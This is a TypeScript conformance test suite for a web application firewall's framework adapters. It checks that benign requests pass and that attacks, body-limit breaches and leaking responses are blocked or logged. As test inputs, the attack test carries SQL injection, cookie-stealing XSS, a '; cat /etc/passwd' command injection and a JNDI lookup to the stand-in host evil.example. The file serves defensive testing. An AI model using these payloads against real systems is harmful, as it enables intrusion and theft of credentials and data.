/**
 * The WAF conformance suite for adapters: Fastify, Hono and Express behind mamoriWafHandler
 * (and any later adapter) run it, with CRS at paranoia level 1, so that the WAF behaves the
 * same in each of them.
 *
 *   runWafAdapterConformance('fastify', async (guard) => startMyFastifyApp(guard));
 *
 * `start(guard)` builds a tiny app with the adapter (and the WAF) installed in front of every
 * route and listens on 127.0.0.1, port 0. The suite makes the guard (its config sends the WAF
 * CRS, a phase 3 rule of its own, a 32 KiB body limit, a login at `/login`, and trusts
 * X-Forwarded-For from 127.0.0.1) and closes it; `close()` stops the app only. The app has
 * (see `WAF_APP` for the exact values):
 * - each of `WAF_APP.paths`, for any method: records `{ method, path, query, body }` in `seen`
 *   and answers 200 JSON `{"ok":true}`. `query` is the parsed query string; `body` is what the
 *   app's own parsers made of the body: the fields of a form (urlencoded), the value of JSON,
 *   and for anything else (multipart, XML) the body as UTF-8 text, however the framework lets
 *   the app read it; no body: undefined.
 * - `POST /login` with a form `{email, password}`: recorded as above; 302 to `/account` with the
 *   cookie `ADAPTER_APP.sessionCookie` for the password `ADAPTER_APP.password`, 401 `wrong email or
 *   password` otherwise.
 * - `GET /debug`: recorded; 200 with the header `X-Debug-Token: abc123`, the cookie `app=1`, and
 *   the body `internal details`.
 * - no route at `/nowhere` (the framework's own 404).
 * The suite finds CRS and libinjection with `sharedData` and skips, with the reason printed,
 * when either is missing.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { ManualClock } from '../core/clock.js';
import { MemoryStore } from '../core/memory-store.js';
import { defaultConfig } from '../config/config.js';
import type { WafYaml } from '../config/yaml-types.js';
import { createGuard, type Guard } from '../guard/guard.js';
import { ADAPTER_APP } from './adapter.case.js';
import { sharedData } from './shared-data.js';

/** What the app's routes received, one entry per handler call. */
export interface WafSeen {
  method: string;
  path: string;
  query: Record<string, unknown>;
  body: unknown;
}

export interface WafAdapterServer {
  /** Base URL, e.g. `http://127.0.0.1:40123`. */
  url: string;
  close(): Promise<void>;
  /** Filled by the app's handlers (the suite checks what reached them, and that refused requests did not). */
  seen: WafSeen[];
}

export type StartWafAdapterApp = (guard: Guard) => Promise<WafAdapterServer>;

/** What the test app behind each adapter must have. */
export const WAF_APP = Object.freeze({
  paths: Object.freeze(['/products', '/item', '/contact', '/comment', '/api/orders', '/api/ping', '/upload', '/xml']),
  login: '/login',
  debug: Object.freeze({ path: '/debug', header: 'x-debug-token', value: 'abc123', cookie: 'app=1', body: 'internal details' }),
  missing: '/nowhere',
});

const BROWSER = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', accept: 'text/html,application/xhtml+xml', 'accept-language': 'ja,en;q=0.8' };
const LIMIT = 32 * 1024;
/** A phase 3 rule of our own: the app's answer must not carry a debug token. */
const PHASE3 = 'SecRule RESPONSE_HEADERS:X-Debug-Token "@rx ." "id:1900001,phase:3,deny,status:403,log,msg:\'debug token in the answer\'"\n';
const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
const JSON_TYPE = { 'content-type': 'application/json', accept: 'application/json' };
const XML = { 'content-type': 'application/xml' };
const MULTIPART = { 'content-type': 'multipart/form-data; boundary=b1' };
const MULTIPART_BODY = '--b1\r\nContent-Disposition: form-data; name="title"\r\n\r\nSpring tea\r\n--b1\r\nContent-Disposition: form-data; name="note"\r\n\r\nleaves from Shizuoka\r\n--b1--\r\n';

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  text: string;
}

/** One request through node:http: the body sent with its length, or in chunks without one (until an answer comes). */
function send(url: string, o: { method?: string; headers?: Record<string, string>; body?: string | Buffer; chunks?: Buffer[]; ip: string }): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const headers: Record<string, string> = { ...BROWSER, 'x-forwarded-for': o.ip, ...o.headers };
    if (o.body !== undefined) headers['content-length'] = String(Buffer.byteLength(o.body));
    const req = httpRequest(url, { method: o.method ?? (o.body !== undefined || o.chunks ? 'POST' : 'GET'), headers });
    let answered = false;
    req.on('response', (res) => {
      answered = true;
      const parts: Buffer[] = [];
      res.on('data', (c: Buffer) => parts.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, text: Buffer.concat(parts).toString('utf8') }));
      res.on('error', reject);
    });
    req.on('error', (err) => (answered ? undefined : reject(err)));
    if (o.body !== undefined) req.end(o.body);
    else if (o.chunks) {
      // One chunk at a time, until the server answers (it may refuse before the end).
      const chunks = [...o.chunks];
      const next = () => {
        if (answered) return req.destroy();
        const c = chunks.shift();
        if (c === undefined) return req.end();
        req.write(c, () => setImmediate(next));
      };
      next();
    } else req.end();
  });
}

/** A value as plain JSON data (parsers hand back objects without a prototype, or with one). */
function plain(v: unknown): unknown {
  return v === undefined ? undefined : JSON.parse(JSON.stringify(v));
}

/** The last request the app's handlers saw, as plain data. */
function last(seen: WafSeen[]): WafSeen {
  const s = seen.at(-1);
  assert.ok(s, 'a handler ran');
  return { method: s.method, path: s.path, query: plain(s.query) as Record<string, unknown>, body: plain(s.body) };
}

/** A guard with the WAF (CRS, paranoia 1, our phase 3 rule) and a started app; `close` ends both. */
async function setup(start: StartWafAdapterApp, crs: string, libinjection: string, waf: WafYaml) {
  const dir = mkdtempSync(join(tmpdir(), 'mamori-waf-conformance-'));
  const rules = join(dir, 'phase3.conf');
  writeFileSync(rules, PHASE3);
  const clock = new ManualClock();
  const guard = createGuard(
    defaultConfig({
      data_dir: dir,
      network: { trusted_proxies: ['127.0.0.1/32'] },
      logins: [{ path: WAF_APP.login, username: { form: 'email' }, password: { form: 'password' }, failure: { status: [401] }, success: { status: [302] } }],
      // No time budget: the manual clock never ends the load-shed check's second, so the rule time
      // of the whole suite would count as one second's, and a loaded machine passes 750 ms (503).
      waf: { crs, libinjection, own_rules: false, rules: [rules], request_body_limit: LIMIT, request_body_no_files_limit: LIMIT, cpu_budget: { per_source: 0 }, ...waf },
    }),
    { store: new MemoryStore({ clock }), secret: Buffer.alloc(32, 7), clock },
  );
  let server: WafAdapterServer;
  try {
    server = await start(guard);
  } catch (err) {
    await guard.close();
    rmSync(dir, { recursive: true, force: true });
    throw err;
  }
  return {
    url: server.url,
    seen: server.seen,
    guard,
    /**
     * The waf-blocked events, once there are at least `atLeast` (waited for a few seconds at most:
     * they are recorded when an exchange is over, just after the client has its answer).
     */
    async blocked(atLeast = 1) {
      for (let i = 0; ; i++) {
        await guard.store.events.flush();
        const found = await guard.store.events.query({ action: 'waf-blocked' });
        if (found.length >= atLeast || i >= 100) return found;
        await new Promise((r) => setTimeout(r, 50));
      }
    },
    async close() {
      try {
        await server.close();
      } finally {
        await guard.close();
        await guard.store.close();
        rmSync(dir, { recursive: true, force: true });
      }
    },
  };
}

export function runWafAdapterConformance(name: string, start: StartWafAdapterApp): void {
  const crs = sharedData('crs', 'MAMORI_CRS_DIR');
  const libinjection = sharedData('libinjection', 'MAMORI_LIBINJECTION_DIR');
  const skip = crs.missing ?? libinjection.missing;

  describe(`waf conformance: ${name} (CRS, blocking, paranoia 1)`, { skip }, () => {
    let s: Awaited<ReturnType<typeof setup>>;
    before(async () => {
      s = await setup(start, crs.dir, libinjection.dir, {});
    });
    after(() => s?.close());

    it("lets benign requests through, and the app's parsers read the bytes the WAF read", async () => {
      const page = await send(`${s.url}/products?category=tea&sort=price`, { ip: '203.0.113.1' });
      assert.equal(page.status, 200);
      assert.deepEqual(last(s.seen), { method: 'GET', path: '/products', query: { category: 'tea', sort: 'price' }, body: undefined });

      const form = 'name=Sato+Hanako&address=1-2-3+Chiyoda%2C+Tokyo&comment=It%27s+great%2C+thanks%21';
      assert.equal((await send(`${s.url}/contact`, { headers: FORM, body: form, ip: '203.0.113.1' })).status, 200);
      assert.deepEqual(last(s.seen), { method: 'POST', path: '/contact', query: {}, body: { name: 'Sato Hanako', address: '1-2-3 Chiyoda, Tokyo', comment: "It's great, thanks!" } });

      const items = Array.from({ length: 300 }, (_, i) => ({ sku: `TEA-${i}`, name: `Sencha No. ${i}`, qty: (i % 5) + 1 }));
      const json = JSON.stringify({ order: { items, customer: { name: 'Suzuki Ichiro', email: 'ichiro@example.jp' } } });
      assert.ok(json.length > 10_000 && json.length < LIMIT);
      assert.equal((await send(`${s.url}/api/orders`, { headers: JSON_TYPE, body: json, ip: '203.0.113.1' })).status, 200);
      assert.deepEqual(last(s.seen).body, JSON.parse(json));
      // Chunked, without a length: read whole all the same, then parsed by the app.
      const bytes = Buffer.from(json);
      const chunks = [bytes.subarray(0, 5000), bytes.subarray(5000, 9000), bytes.subarray(9000)];
      assert.equal((await send(`${s.url}/api/orders`, { headers: JSON_TYPE, chunks, ip: '203.0.113.1' })).status, 200);
      assert.deepEqual(last(s.seen).body, JSON.parse(json));

      assert.equal((await send(`${s.url}/upload`, { headers: MULTIPART, body: MULTIPART_BODY, ip: '203.0.113.2' })).status, 200);
      assert.deepEqual(last(s.seen), { method: 'POST', path: '/upload', query: {}, body: MULTIPART_BODY });
      const split = [Buffer.from(MULTIPART_BODY.slice(0, 40)), Buffer.from(MULTIPART_BODY.slice(40))];
      assert.equal((await send(`${s.url}/upload`, { headers: MULTIPART, chunks: split, ip: '203.0.113.2' })).status, 200);
      assert.deepEqual(last(s.seen), { method: 'POST', path: '/upload', query: {}, body: MULTIPART_BODY });

      const xml = '<?xml version="1.0"?><order><item>TEA-1</item></order>';
      assert.equal((await send(`${s.url}/xml`, { headers: XML, body: xml, ip: '203.0.113.1' })).status, 200);
      assert.deepEqual(last(s.seen), { method: 'POST', path: '/xml', query: {}, body: xml });
    });

    it('refuses attacks in the query, a header, a form, JSON, multipart and XML before the app runs, each a waf-blocked event', async () => {
      const before = s.seen.length;
      const attacks: [string, Promise<Answer>][] = [
        ['198.51.100.1', send(`${s.url}/item?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--`, { ip: '198.51.100.1' })],
        ['198.51.100.2', send(`${s.url}/comment`, { headers: FORM, body: 'text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E', ip: '198.51.100.2' })],
        ['198.51.100.3', send(`${s.url}/api/ping`, { headers: JSON_TYPE, body: '{"host":"127.0.0.1; cat /etc/passwd"}', ip: '198.51.100.3' })],
        ['198.51.100.4', send(`${s.url}/upload`, { headers: MULTIPART, body: MULTIPART_BODY.replace('Spring tea', '<script>alert(1)</script>'), ip: '198.51.100.4' })],
        // Chunked: the attack is in the second chunk.
        ['198.51.100.5', send(`${s.url}/api/ping`, { headers: JSON_TYPE, chunks: [Buffer.from('{"host":"127.0.0.1'), Buffer.from('; cat /etc/passwd"}')], ip: '198.51.100.5' })],
        // A route that does not exist: refused by the WAF all the same.
        ['198.51.100.6', send(`${s.url}${WAF_APP.missing}`, { headers: FORM, body: 'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', ip: '198.51.100.6' })],
        ['198.51.100.7', send(`${s.url}/xml`, { headers: XML, body: '<?xml version="1.0"?><q>1\' UNION SELECT password FROM users--</q>', ip: '198.51.100.7' })],
        ['198.51.100.9', send(`${s.url}/products`, { headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' }, ip: '198.51.100.9' })],
      ];
      for (const [ip, answer] of attacks) {
        const a = await answer;
        assert.equal(a.status, 403, `${ip}: ${a.text.slice(0, 200)}`);
      }
      assert.equal(s.seen.length, before, 'no handler ran');
      const events = await s.blocked(attacks.length);
      for (const [ip] of attacks) {
        const e = events.find((x) => x['source.ip'] === ip);
        assert.ok(e, `an event for ${ip}`);
        assert.equal(e['event.module'], 'guard.waf');
        assert.equal(e['http.response.status_code'], 403);
      }
      assert.match(events.find((e) => e['source.ip'] === '198.51.100.1')!['mamori.waf.rules'] ?? '', /942\d{3}/);
      assert.match(events.find((e) => e['source.ip'] === '198.51.100.3')!['mamori.waf.rules'] ?? '', /932\d{3}/);
    });

    it('refuses a compressed body, which the WAF cannot read as the app may (415)', async () => {
      const before = s.seen.length;
      const gz = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
      const r = await send(`${s.url}/contact`, { headers: { ...FORM, 'content-encoding': 'gzip' }, body: gz, ip: '203.0.113.7' });
      assert.equal(r.status, 415);
      assert.equal(s.seen.length, before);
    });

    it('answers 413 to a body over the WAF limit, with a length or without one', async () => {
      const before = s.seen.length;
      const big = JSON.stringify({ note: 'x'.repeat(LIMIT) });
      assert.equal((await send(`${s.url}/api/orders`, { headers: JSON_TYPE, body: big, ip: '203.0.113.5' })).status, 413);
      const chunks = Array.from({ length: 8 }, (_, i) => Buffer.from(i === 0 ? '{"note":"' : 'y'.repeat(8 * 1024)));
      assert.equal((await send(`${s.url}/api/orders`, { headers: JSON_TYPE, chunks, ip: '203.0.113.5' })).status, 413);
      assert.equal(s.seen.length, before);
    });

    it("holds one source's bodies only up to the WAF's limit at once (429), and gives them back when the answers are done", async () => {
      const { connect } = await import('node:net');
      const port = Number(new URL(s.url).port);
      // A first upload of 20 KB of a declared 30 KB, then stalled: its bytes are held.
      const stalled = connect(port, '127.0.0.1');
      await new Promise((r) => stalled.once('connect', r));
      const head = `POST /api/orders HTTP/1.1\r\nHost: localhost\r\nUser-Agent: ${BROWSER['user-agent']}\r\nX-Forwarded-For: 203.0.113.40\r\nContent-Type: application/json\r\nContent-Length: 30000\r\n\r\n`;
      stalled.write(head + '{"note":"'.padEnd(20_000, 'x'));
      await new Promise((r) => setTimeout(r, 300));
      // 15 KB more from the same source would hold 35 KB at once: past its share (32 KB).
      const second = await send(`${s.url}/api/orders`, { headers: JSON_TYPE, body: JSON.stringify({ note: 'y'.repeat(15_000) }), ip: '203.0.113.40' });
      assert.equal(second.status, 429);
      stalled.destroy();
      // Once the stalled one is gone, the source's share is free again (given back as it closes).
      let again = 0;
      for (let i = 0; i < 100 && again !== 200; i++) {
        await new Promise((r) => setTimeout(r, 50));
        again = (await send(`${s.url}/api/orders`, { headers: JSON_TYPE, body: JSON.stringify({ note: 'z'.repeat(15_000) }), ip: '203.0.113.40' })).status;
      }
      assert.equal(again, 200);
    });

    it('checks and settles a login the WAF let through; refuses one carrying an attack', async () => {
      const body = `email=alice%40example.com&password=${ADAPTER_APP.password}`;
      const ok = await send(`${s.url}${WAF_APP.login}`, { headers: FORM, body, ip: '203.0.113.8' });
      assert.equal(ok.status, 302);
      assert.deepEqual(last(s.seen), { method: 'POST', path: WAF_APP.login, query: {}, body: { email: 'alice@example.com', password: ADAPTER_APP.password } });
      const cookies = ([] as string[]).concat(ok.headers['set-cookie'] ?? []);
      const sid = ADAPTER_APP.sessionCookie.split(';')[0]!;
      assert.ok(cookies.some((c) => c.startsWith(sid)) && cookies.some((c) => c.startsWith('mamori_device=')), cookies.join(' | '));
      assert.equal((await s.guard.store.events.query({ action: 'login-success' })).length, 1);
      const before = s.seen.length;
      const attack = await send(`${s.url}${WAF_APP.login}`, { headers: FORM, body: 'email=admin%27%20or%201%3D1--&password=x', ip: '198.51.100.8' });
      assert.equal(attack.status, 403);
      assert.equal(s.seen.length, before);
    });

    it('runs phase 3 on the answer: a refusal replaces it whole', async () => {
      const d = WAF_APP.debug;
      const r = await send(`${s.url}${d.path}`, { ip: '203.0.113.6' });
      assert.equal(last(s.seen).path, d.path, 'the handler ran (phase 3 is after it)');
      assert.equal(r.status, 403);
      assert.equal(r.headers[d.header], undefined);
      assert.equal(r.headers['set-cookie'], undefined, "none of the app's headers is kept");
      assert.ok(!r.text.includes(d.body));
      const e = (await s.blocked()).find((x) => x['source.ip'] === '203.0.113.6');
      assert.equal(e?.['rule.id'], '1900001');
      assert.equal(e['http.response.status_code'], r.status);
    });
  });

  describe(`waf conformance: ${name} (detect mode)`, { skip }, () => {
    let s: Awaited<ReturnType<typeof setup>>;
    before(async () => {
      s = await setup(start, crs.dir, libinjection.dir, { mode: 'detect' });
    });
    after(() => s?.close());

    it('records what it would refuse and lets it through', async () => {
      const r = await send(`${s.url}/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--`, { ip: '198.51.100.20' });
      assert.equal(r.status, 200);
      assert.equal(last(s.seen).path, '/item');
      const body = '{"host":"127.0.0.1; cat /etc/passwd"}';
      assert.equal((await send(`${s.url}/api/ping`, { headers: JSON_TYPE, body, ip: '198.51.100.21' })).status, 200);
      assert.deepEqual(last(s.seen), { method: 'POST', path: '/api/ping', query: {}, body: JSON.parse(body) });
      const events = await s.blocked(2);
      assert.equal(events.length, 2);
      for (const e of events) assert.equal(e['mamori.detect_only'], true);
      assert.equal((await s.guard.store.decisions.list({ origin: 'guard.waf' })).length, 0);
    });
  });
}
